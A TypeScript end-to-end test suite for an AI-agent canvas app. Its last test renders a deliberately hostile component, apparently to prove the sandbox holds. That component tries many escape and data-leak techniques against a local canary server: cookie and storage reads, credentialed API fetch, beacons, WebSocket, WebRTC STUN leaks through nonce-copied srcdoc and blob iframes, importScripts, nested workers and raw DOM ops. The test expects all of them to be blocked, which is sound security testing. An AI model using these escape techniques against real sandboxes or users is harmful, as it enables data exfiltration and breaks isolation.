// The canvas against a real `wright serve` and a scripted model on the OpenAI wire (see
// harness.ts), in Debian's Chromium: a form the model renders, filled and submitted, reaches
// the model; ask_user with options; a component that answers through callTool; the server
// killed while a form is pending, then the form answered and the run resumed; and every
// isolation rule of the component frame tried as an attack from inside a component.
//
// Needs the built app (`npm run build`), the built binary (`cargo build`) and Chromium; it is
// skipped without them.
import { createSocket, type Socket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasChromium, launch } from './browser';
import { hasWright, scenarioOf, startFakeModel, startWright, toolResults, type FakeModel, type ModelReply, type ModelRequest, type Wright } from './harness';

const built = existsSync(join(import.meta.dirname, '..', 'dist', 'index.html'));

// Where an escaped request from a component would land: an HTTP server (fetch, images,
// forms, navigations, WebSockets, popups) and a UDP socket (WebRTC's STUN).
interface Canary {
  url: string;
  stun: string;
  hits: string[];
  close(): Promise<void>;
}

async function startCanary(): Promise<Canary> {
  const hits: string[] = [];
  const http: Server = createServer((request, response) => {
    hits.push(`http ${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('leaked');
  });
  http.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((done) => http.listen(0, '127.0.0.1', done));
  const udp: Socket = createSocket('udp4');
  udp.on('message', (message) => hits.push(`udp ${message.length} bytes`));
  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done));
  return {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    hits,
    close: async () => {
      udp.close();
      await new Promise((done) => http.close(done));
    },
  };
}

const FORM = {
  title: 'Weekly budget',
  blocks: [
    { type: 'markdown', content: 'Set a **budget** for groceries.' },
    {
      type: 'form',
      submitLabel: 'Set budget',
      fields: [
        { name: 'budget', label: 'Budget', type: 'number', required: true },
        { name: 'shop', label: 'Shop', type: 'select', options: ['Market', 'Supermarket'], default: 'Market' },
        { name: 'remind', label: 'Remind me', type: 'checkbox', default: false },
      ],
    },
  ],
};

const PICKER = `import { useState } from 'react';
export default function Picker({ colours }) {
  const [chosen, setChosen] = useState(colours[0]);
  return <Card><Stack>
    <Row>{colours.map(c => <Button key={c} onClick={() => setChosen(c)}>{c}</Button>)}</Row>
    <Text>Chosen: {chosen}</Text>
    <Button variant="primary" onClick={() => callTool('choose', { colour: chosen })}>Use it</Button>
  </Stack></Card>;
}`;

// Each attempt returns a value when it got through and throws (or returns undefined) when it
// was stopped; the canary sees whatever left the frame regardless of what the code believes.
// Component code runs in a Worker with no DOM, so the document's ways (cookies, storage, the
// parent, elements, innerHTML, WebRTC) now fail at once; they stay, as code written for a page
// would try them, with the worker's own ways and the frame's protocol after them.
const ATTACK = `import { useEffect, useState } from 'react';
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
async function rtc(Peer, stun) {
  const peer = new Peer({ iceServers: [{ urls: stun }] });
  peer.createDataChannel('leak');
  await peer.setLocalDescription(await peer.createOffer());
  await sleep(1500);
  const candidates = (peer.localDescription?.sdp ?? '').match(/a=candidate/g);
  peer.close();
  return candidates ? candidates.length + ' ICE candidates' : undefined;
}
const attacks = {
  cookies: () => document.cookie || undefined,
  storage: () => { localStorage.setItem('leak', '1'); return 'localStorage works'; },
  parentDom: () => window.parent.document.title,
  topUrl: () => window.top.location.href,
  apiFetch: async (p) => (await fetch(p.api + '/api/agents', { credentials: 'include' })).status,
  fetch: async (p) => (await fetch(p.canary + '/fetch')).status,
  xhr: (p) => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', p.canary + '/xhr'); x.onload = () => done(x.status); x.onerror = fail; x.send(); }),
  websocket: (p) => new Promise((done, fail) => { const ws = new WebSocket(p.canary.replace('http', 'ws') + '/ws'); ws.onopen = () => done('open'); ws.onerror = fail; ws.onclose = fail; }),
  image: (p) => new Promise((done, fail) => { const img = new Image(); img.onload = () => done('loaded'); img.onerror = fail; img.src = p.canary + '/image.png'; }),
  beacon: (p) => { navigator.sendBeacon(p.canary + '/beacon', 'leak'); return undefined; },
  prefetch: (p) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = p.canary + '/prefetch'; document.head.appendChild(l); return undefined; },
  form: (p) => { const f = document.createElement('form'); f.method = 'POST'; f.action = p.canary + '/form'; document.body.appendChild(f); f.submit(); return undefined; },
  childFrame: (p) => { const f = document.createElement('iframe'); f.src = p.canary + '/frame'; document.body.appendChild(f); return undefined; },
  webrtc: (p) => rtc(window.RTCPeerConnection, p.stun),
  webrtcFromChildRealm: (p) => {
    const f = document.createElement('iframe');
    document.body.appendChild(f);
    return rtc(f.contentWindow.RTCPeerConnection, p.stun);
  },
  webrtcFromSrcdocChild: (p) => {
    const scriptNonce = [...document.scripts].map((script) => script.nonce).find(Boolean) ?? '';
    const f = document.createElement('iframe');
    f.srcdoc = '<script nonce="' + scriptNonce + '">const peer = new RTCPeerConnection({ iceServers: [{ urls: "' + p.stun + '" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));</' + 'script>';
    document.body.appendChild(f);
    return sleep(1500).then(() => undefined);
  },
  webrtcFromBlobChild: (p) => {
    const html = '<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "' + p.stun + '" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));</' + 'script>';
    const f = document.createElement('iframe');
    f.src = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
    document.body.appendChild(f);
    return sleep(1500).then(() => undefined);
  },
  innerHtml: () => { document.createElement('div').innerHTML = '<b>x</b>'; return 'innerHTML works'; },
  evalCode: () => (0, eval)('"eval works"'),
  popup: (p) => (window.open(p.canary + '/popup') ? 'popup opened' : undefined),
  topNavigation: (p) => { window.top.location.href = p.canary + '/top'; return undefined; },
  // a component runs in a Worker: its own ways out
  importScripts: (p) => { importScripts(p.canary + '/import-scripts.js'); return 'imported'; },
  dynamicImport: async (p) => Object.keys(await import(p.canary + '/import.js')).length + ' exports',
  eventSource: (p) => new Promise((done, fail) => { const source = new EventSource(p.canary + '/events'); source.onopen = () => done('open'); source.onerror = () => { source.close(); fail(new Error('refused')); }; }),
  nestedWorker: (p) => new Promise((done, fail) => { const worker = new Worker(p.canary + '/worker.js'); worker.onmessage = () => done('ran'); worker.onerror = fail; }),
  // and, without React, the frame's own protocol: elements that would load from the canary
  rawOps: (p) => {
    const el = (id, tag, props) => ({ op: 'insert', parent: 0, before: null, node: { id, tag, props, children: [] } });
    postMessage({ t: 'ops', ops: [
      el(990001, 'img', { src: p.canary + '/raw-img.png' }),
      el(990002, 'iframe', { src: p.canary + '/raw-frame' }),
      el(990003, 'link', { rel: 'prefetch', href: p.canary + '/raw-prefetch' }),
      el(990004, 'div', { style: { backgroundImage: 'url(' + p.canary + '/raw-bg.png)', background: 'url(' + p.canary + '/raw-background.png)' } }),
      el(990005, 'input', { type: 'image', src: p.canary + '/raw-input.png' }),
    ] });
    return undefined;
  },
};
export default function Attack(props) {
  const [report, setReport] = useState(null);
  useEffect(() => {
    (async () => {
      const results = {};
      for (const [name, attempt] of Object.entries(attacks)) {
        try {
          const value = await attempt(props);
          results[name] = value === undefined ? 'blocked' : 'OPEN: ' + String(value).slice(0, 100);
        } catch (error) {
          results[name] = 'blocked: ' + String(error?.message ?? error?.type ?? error).slice(0, 100);
        }
      }
      await sleep(500);
      setReport(results);
      await callTool('report', { results });
      // last: navigate this frame itself to the canary
      location.href = props.canary + '/self-navigation';
    })();
  }, []);
  return <Card><Text>{report ? 'Attacks done' : 'Attacking…'}</Text></Card>;
}`;

/** Controlled fields: what the person types goes to the component (in its worker) and back. */
const TYPIST = `export default function Typist() {
  const [text, setText] = useState('');
  const [size, setSize] = useState('m');
  const [on, setOn] = useState(false);
  const [keys, setKeys] = useState(0);
  return <Card><form onSubmit={(e) => { e.preventDefault(); callTool('typed', { text, size, on, keys }); }}><Stack>
    <Input label="Shout" value={text} onChange={(e) => setText(e.target.value.toUpperCase())} onKeyDown={() => setKeys((n) => n + 1)} />
    <Select label="Size" options={['s', 'm', 'l']} value={size} onChange={(e) => setSize(e.target.value)} />
    <Checkbox label="Loud" checked={on} onChange={(e) => setOn(e.target.checked)} />
    <Button type="submit" variant="primary">Send</Button>
  </Stack></form></Card>;
}`;

const NOTE = { title: 'A note', blocks: [{ type: 'markdown', content: 'Nothing to fill in here.' }] };

const MESSENGER = `export default function Messenger() {
  return <Card><Button variant="primary" onClick={() => sendMessage('Teal, please')}>Tell the agent</Button></Card>;
}`;

/** The scripted model: the first user message names the scenario; tool results drive it on. */
function model(canaryOf: () => Canary, api: () => string) {
  return (request: ModelRequest): ModelReply => {
    const results = toolResults(request);
    const scenario = scenarioOf(request);
    if (results.length > 0) return { text: `Model received: ${results[results.length - 1]}` };
    switch (scenario) {
      case 'form':
      case 'restart':
        return { toolCalls: [{ name: 'render_blocks', arguments: FORM }] };
      case 'ask':
        return { toolCalls: [{ name: 'ask_user', arguments: { question: 'Deploy to production now?', options: ['Deploy', 'Wait until Monday'] } }] };
      case 'component':
        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Pick a colour', code: PICKER, props: { colours: ['teal', 'amber', 'violet'] } } }] };
      case 'typing':
        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Typist', code: TYPIST, props: {} } }] };
      case 'dismiss':
        return { toolCalls: [{ name: 'render_blocks', arguments: NOTE }] };
      case 'parallel':
      case 'moveon':
        // two calls that wait for the person, in one turn
        return {
          toolCalls: [
            { name: 'render_blocks', arguments: NOTE },
            { name: 'ask_user', arguments: { question: 'Which day?', options: ['Monday', 'Friday'] } },
          ],
        };
      case 'approve':
        return { toolCalls: [{ name: 'set_state', arguments: { key: 'colour', value: 'red' } }] };
      case 'approve-deny':
        return { toolCalls: [{ name: 'set_state', arguments: { key: 'size', value: 'large' } }] };
      case 'approve-restart':
        return { toolCalls: [{ name: 'set_state', arguments: { key: 'shape', value: 'round' } }] };
      case 'sender':
        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Messenger', code: MESSENGER, props: {} } }] };
      case 'attack':
        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Totally harmless', code: ATTACK, props: { canary: canaryOf().url, stun: canaryOf().stun, api: api() } } }] };
      default:
        return { text: 'Hello.' };
    }
  };
}

describe.skipIf(!built || !hasChromium || !hasWright)('canvas against wright serve and a scripted model', () => {
  let fake: FakeModel;
  let wright: Wright;
  let canary: Canary;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const popups: string[] = [];

  const login = async () => {
    await page.goto(wright.url);
    await page.locator('#token').fill(wright.token);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: '+ New conversation' }).waitFor();
  };

  /** Starts a conversation from the UI with the scenario's message; returns its id. */
  const startConversation = async (scenario: string) => {
    const previous = page.url();
    await page.getByRole('button', { name: '+ New conversation' }).click();
    await page.waitForURL((url) => /\/c\/[^/]+$/.test(url.pathname) && url.href !== previous);
    const message = page.getByLabel('Message', { exact: true });
    await message.fill(`scenario:${scenario}`);
    await message.press('Enter');
    return page.url().split('/c/')[1];
  };

  /** The tool result the model got for this scenario, once the run has come back to it. */
  const resultSeenByModel = async (scenario: string) => {
    let seen: string | undefined;
    await expect
      .poll(() => {
        seen = fake.requests.filter((request) => scenarioOf(request) === scenario).map((request) => toolResults(request)[0]).find(Boolean);
        return seen !== undefined;
      }, { timeout: 20_000 })
      .toBe(true);
    return JSON.parse(seen!);
  };

  beforeAll(async () => {
    canary = await startCanary();
    fake = await startFakeModel(model(() => canary, () => wright.url));
    wright = await startWright(fake);
    browser = await launch();
    context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    page = await context.newPage();
    context.on('page', (opened) => popups.push(opened.url()));
    await login();
  });
  afterEach(async (context) => {
    // The fake model validates every history as OpenAI does; a refused request fails the test
    // that caused it (against the real API the conversation would be dead).
    const refused = fake.refused.splice(0);
    // a failing test leaves a picture of the page and the server's output behind
    if (context.task.result?.state === 'fail' || refused.length) {
      const name = context.task.name.replace(/\W+/g, '-').slice(0, 60);
      await page.screenshot({ path: join(import.meta.dirname, '..', 'test-results', `live-${name}.png`) }).catch(() => {});
      console.error(`wright serve output:\n${wright.log().slice(-4000)}`);
    }
    expect(refused.map((refusal) => ({ status: refusal.status, body: refusal.body, messages: refusal.request.messages })), 'requests the model refused').toEqual([]);
  });
  afterAll(async () => {
    // a request refused after the last test's check (a run that went on) still fails the file
    const late = fake?.refused.map((refusal) => refusal.body) ?? [];
    await browser?.close();
    await wright?.stop();
    await fake?.close();
    await canary?.close();
    expect(late, 'requests the model refused after the last test').toEqual([]);
  });

  it('the model renders a form; the filled form reaches the model, which answers', async () => {
    await startConversation('form');
    const canvas = page.getByRole('region', { name: 'Canvas' });
    await canvas.getByLabel(/Budget/).fill('150');
    await canvas.getByLabel(/Shop/).selectOption('Supermarket');
    await canvas.getByLabel(/Remind me/).check();
    await canvas.getByRole('button', { name: 'Set budget' }).click();
    expect(await resultSeenByModel('form')).toEqual({ action: 'submit', data: { budget: 150, shop: 'Supermarket', remind: true } });
    await page.getByRole('region', { name: 'Chat' }).getByText(/Model received: .*"budget":150/).waitFor();
  });

  it('ask_user shows its options and the chosen one reaches the model', async () => {
    await startConversation('ask');
    const asks = page.getByRole('group', { name: 'The agent asks' });
    await asks.getByText('Deploy to production now?').waitFor();
    await asks.getByRole('button', { name: 'Wait until Monday' }).click();
    expect(JSON.stringify(await resultSeenByModel('ask'))).toContain('Wait until Monday');
    await page.getByText(/Model received: .*Wait until Monday/).waitFor();
  });

  it('a component answers the paused call through callTool', async () => {
    await startConversation('component');
    const frame = page.frameLocator('iframe[title="Pick a colour"]');
    await frame.getByRole('button', { name: 'amber' }).click();
    await frame.getByText('Chosen: amber').waitFor();
    await frame.getByRole('button', { name: 'Use it' }).click();
    expect(await resultSeenByModel('component')).toEqual({ action: 'choose', colour: 'amber' });
    await page.getByText(/Model received: .*amber/).waitFor();
  });

  it('a component’s controlled fields follow fast typing, a select and a checkbox', async () => {
    await startConversation('typing');
    const frame = page.frameLocator('iframe[title="Typist"]');
    const shout = frame.getByLabel('Shout');
    await shout.click();
    await page.keyboard.type('hello world'); // no pause between keys: faster than each round trip
    await expect.poll(() => shout.inputValue()).toBe('HELLO WORLD');
    await frame.getByLabel('Size').selectOption('l');
    await frame.getByLabel('Loud').check();
    await frame.getByRole('button', { name: 'Send' }).click();
    expect(await resultSeenByModel('typing')).toEqual({ action: 'typed', text: 'HELLO WORLD', size: 'l', on: true, keys: 11 });
  });

  it('a pending form survives a crash of the server and answering it resumes the run', async () => {
    const conversation = await startConversation('restart');
    const canvas = page.getByRole('region', { name: 'Canvas' });
    await canvas.getByLabel(/Budget/).waitFor();
    await wright.restart();
    await page.goto(`${wright.url}/agents/default/c/${conversation}`);
    if (await page.locator('#token').isVisible().catch(() => false)) {
      await page.locator('#token').fill(wright.token);
      await page.keyboard.press('Enter');
    }
    await canvas.getByLabel(/Budget/).fill('99');
    await canvas.getByRole('button', { name: 'Set budget' }).click();
    expect(await resultSeenByModel('restart')).toEqual({ action: 'submit', data: { budget: 99, shop: 'Market', remind: false } });
    await page.getByText(/Model received: .*"budget":99/).waitFor();
  });

  it('a call its policy asks about waits for approval: edited and approved, denied, and approved after a restart', async () => {
    /** Calls the API from the page, with its session. */
    const call = (method: string, path: string, body?: unknown) =>
      page.evaluate(
        async ({ method, path, body }) => {
          const response = await fetch(path, { method, headers: { 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
          return { status: response.status, body: await response.json() };
        },
        { method, path, body },
      );
    expect((await call('PUT', '/api/agents/default/tools/set_state/policy', { policy: 'ask' })).status).toBe(200);
    try {
      // Edited, then approved: the call runs with the person's arguments.
      await startConversation('approve');
      const card = page.getByRole('group', { name: 'Approve set_state?' });
      await card.waitFor();
      await expect.poll(async () => (await call('GET', '/api/agents/default/state/colour')).body.value).toBe(null);
      await card.getByRole('button', { name: 'Edit arguments' }).click();
      await card.getByLabel('Arguments').fill(JSON.stringify({ key: 'colour', value: 'blue' }));
      await card.getByRole('button', { name: 'Approve as edited' }).click();
      await page.getByText(/Model received: .*"ok"/).waitFor();
      expect((await call('GET', '/api/agents/default/state/colour')).body.value).toBe('blue');

      // Denied: nothing runs, and the model reads the refusal.
      await startConversation('approve-deny');
      await page.getByRole('group', { name: 'Approve set_state?' }).getByRole('button', { name: 'Deny' }).click();
      await page.getByText(/Model received: .*denied/).waitFor();
      expect((await call('GET', '/api/agents/default/state/size')).body.value).toBe(null);

      // The approval waits durably: the server is killed and restarted, then the person approves.
      const conversation = await startConversation('approve-restart');
      await page.getByRole('group', { name: 'Approve set_state?' }).waitFor();
      await wright.restart();
      await page.goto(`${wright.url}/agents/default/c/${conversation}`);
      if (await page.locator('#token').isVisible().catch(() => false)) {
        await page.locator('#token').fill(wright.token);
        await page.keyboard.press('Enter');
      }
      await page.getByRole('group', { name: 'Approve set_state?' }).getByRole('button', { name: 'Approve', exact: true }).click();
      await page.getByText(/Model received: .*"ok"/).waitFor();
      expect((await call('GET', '/api/agents/default/state/shape')).body.value).toBe('round');
      const log = (await call('GET', '/api/agents/default/executions?tool=set_state')).body as { decided_by: string | null; success: boolean }[];
      expect(log.map((entry) => [entry.decided_by, entry.success])).toEqual([
        ['person', true],
        ['person', false],
        ['person', true],
      ]);
    } finally {
      await call('PUT', '/api/agents/default/tools/set_state/policy', { policy: null });
    }
  });

  it('dismissing blocks answers {action: "dismissed"}, the spelling the model is told', async () => {
    await startConversation('dismiss');
    const canvas = page.getByRole('region', { name: 'Canvas' });
    await canvas.getByText('Nothing to fill in here.').waitFor();
    await canvas.getByRole('button', { name: 'Dismiss' }).click();
    expect(await resultSeenByModel('dismiss')).toEqual({ action: 'dismissed' });
    await canvas.getByText('Dismissed').waitFor();
    await page.getByText(/Model received: .*dismissed/).waitFor();
  });

  it('two calls waiting in one turn: the run resumes once both are answered, each answer paired with its call', async () => {
    await startConversation('parallel');
    const canvas = page.getByRole('region', { name: 'Canvas' });
    await canvas.getByRole('button', { name: 'Dismiss' }).click();
    await canvas.getByText('Dismissed').waitFor();
    await page.getByRole('group', { name: 'The agent asks' }).getByRole('button', { name: 'Friday' }).click();
    await page.getByText(/Model received: .*Friday/).waitFor();
    const resumed = fake.requests.filter((request) => scenarioOf(request) === 'parallel' && toolResults(request).length > 0);
    expect(resumed).toHaveLength(1);
    expect(toolResults(resumed[0]).map((result) => JSON.parse(result))).toEqual([{ action: 'dismissed' }, expect.objectContaining({ answer: 'Friday' })]);
  });

  it('a new message while two calls wait dismisses both, and the model answers it', async () => {
    await startConversation('moveon');
    await page.getByRole('group', { name: 'The agent asks' }).waitFor();
    const message = page.getByLabel('Message', { exact: true });
    await message.fill('Never mind, something else');
    await message.press('Enter');
    await page.getByText(/Model received: .*dismissed/).waitFor();
    const last = fake.requests.filter((request) => scenarioOf(request) === 'moveon').at(-1)!;
    expect(toolResults(last).map((result) => JSON.parse(result))).toEqual([{ action: 'dismissed' }, { action: 'dismissed' }]);
    expect(last.messages.at(-1)).toMatchObject({ role: 'user', content: expect.stringContaining('Never mind') });
  });

  it('a message a component sends is shown as the component’s, not as the person’s', async () => {
    await startConversation('sender');
    const frame = page.frameLocator('iframe[title="Messenger"]');
    await frame.getByRole('button', { name: 'Tell the agent' }).click();
    const chat = page.getByRole('region', { name: 'Chat' });
    await chat.getByText(/sent by the component “Messenger”/).waitFor();
    await chat.locator('.msg-component').getByText('Teal, please').waitFor();
    await chat.getByText(/Model received:/).waitFor();
    await page.screenshot({ path: join(import.meta.dirname, '..', 'test-results', 'live-component-message.png') });
    const last = fake.requests.filter((request) => scenarioOf(request) === 'sender').at(-1)!;
    expect(JSON.stringify(last.messages)).toContain('Teal, please');
  });

  it('a component cannot reach cookies, storage, the API, the network or other windows', async () => {
    const before = page.url();
    await startConversation('attack');
    const report = await resultSeenByModel('attack');
    expect(report.action).toBe('report');
    const results = report.results as Record<string, string>;
    const open = Object.entries(results).filter(([, outcome]) => !outcome.startsWith('blocked'));
    expect(open, `${JSON.stringify(results, null, 1)}\ncanary: ${JSON.stringify(canary.hits)}`).toEqual([]);
    expect(Object.keys(results).length).toBe(26);
    // give late requests (beacon, prefetch, STUN retries, the self-navigation) time to land
    await page.waitForTimeout(2000);
    expect(canary.hits).toEqual([]);
    expect(popups).toEqual([]);
    expect(page.url()).not.toBe(before);
    expect(page.url()).toContain(wright.url);
  });
});
